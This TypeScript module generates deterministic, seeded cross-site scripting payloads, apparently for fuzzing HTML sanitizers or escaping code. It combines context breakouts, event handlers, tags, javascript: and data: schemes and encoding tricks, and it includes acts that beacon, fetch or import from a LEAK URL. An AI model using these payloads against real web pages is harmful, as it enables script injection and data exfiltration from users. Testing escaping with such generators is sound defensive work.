import { LEAK } from "./payloads.js";

/** Numbers between 0 and 1, the same for the same seed (mulberry32). */
function randomOf(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const RAN = "document.documentElement.dataset.ran=1";
const codes = (leak: string): string[] => [
  RAN,
  `self['doc'+'ument'].documentElement.dataset.ran=1`,
  `eval(atob('${Buffer.from(RAN).toString("base64")}'))`,
  `fetch('${leak}')`,
  `new Image().src='${leak}'`,
  `import('${leak}')`,
  `navigator.sendBeacon('${leak}')`,
];
const OUT_OF = [
  "", '"', "'", "`", '">', "'>", "-->", "--!>", "]]>", "</title>", "</style>", "</script>", "</textarea>", "</noscript>", "</xmp>",
  "</td></tr></table>", "</svg>", "</math>", "<!--", "<![CDATA[", "<?", "&quot;>", "&#34;>", "&lt;", "\u2028", "\u202e", "\\\"", "/*", "*/",
]; // biome-ignore format: a list
const EVENTS = [
  "onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onpointerenter", "onclick", "onblur",
  "onpageshow", "onhashchange", "onresize", "onstart", "onbeforeprint", "OnErRoR",
]; // biome-ignore format: a list
const TAGS = [
  "script", "img", "image", "svg", "iframe", "object", "embed", "video", "audio", "source", "details", "body", "input", "button", "form",
  "math", "style", "link", "meta", "base", "template", "marquee", "a", "table", "td", "select", "option", "noscript", "noembed", "xmp",
  "textarea", "title", "plaintext", "frameset", "animate", "foreignObject", "use", "mglyph", "x:script", "portal", "dialog", "custom-x",
]; // biome-ignore format: a list
const SCHEMES = [
  "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\u0001javascript:", "javascript&colon;", "&#106;avascript:",
  "vbscript:", "data:text/html,", "data:image/svg+xml,", "data:application/xhtml+xml,", "blob:", "filesystem:", "view-source:javascript:",
  "feed:javascript:", "//", "\\\\", "http:", "file:///", "mailto:x?", "tel:",
]; // biome-ignore format: a list
const ATTRIBUTES = [
  "src",
  "href",
  "xlink:href",
  "action",
  "formaction",
  "data",
  "poster",
  "srcset",
  "background",
  "ping",
  "content",
  "code",
  "to",
];
const BETWEEN = [" ", "/", "\t", "\n", "  ", " / "];
const CODED: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text,
  (text) => text,
  (text) => text.replace(/[<>"'&]/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (text) => text.replace(/[<>"'&]/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&amp;lt;"),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll("<", "\\x3c"),
  (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text) => text.replaceAll("<", "<\u0000"),
  (text) => text.toUpperCase(),
];

/**
 * Texts that would be script, markup or a request to `leak` in a page that escapes them badly: made of pieces, the same for the same
 * seed.
 */
export function generatedPayloads(count: number, seed: number, leak = LEAK): string[] {
  const random = randomOf(seed);
  const acts = codes(leak);
  const one = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
  const attribute = (): string => {
    const quote = one(['"', "'", "", "`"]);
    if (random() < 0.5) return `${one(EVENTS)}=${quote}${one(acts)}${quote}`;
    if (random() < 0.2) return `style=${quote}background:url(${leak});animation:x${quote}`;
    return `${one(ATTRIBUTES)}=${quote}${random() < 0.4 ? leak : one(SCHEMES) + one(acts)}${quote}`;
  };
  const element = (): string => {
    const tag = one(TAGS);
    const attributes = Array.from({ length: Math.floor(random() * 3) }, () => one(BETWEEN) + attribute()).join("");
    const inner = random() < 0.5 ? one(acts) : random() < 0.4 ? element() : "";
    return `<${tag}${attributes}${random() < 0.2 ? "" : ">"}${inner}${random() < 0.5 ? `</${tag}>` : ""}`;
  };
  return Array.from({ length: count }, () => {
    const shape = random();
    const core =
      shape < 0.65
        ? element()
        : shape < 0.8
          ? `${one(SCHEMES)}${one(acts)}`
          : `${one(BETWEEN)}${attribute()}${one(BETWEEN)}x=`;
    return one(CODED)(one(OUT_OF) + one(OUT_OF) + core + one(["", "", one(OUT_OF)]));
  });
}
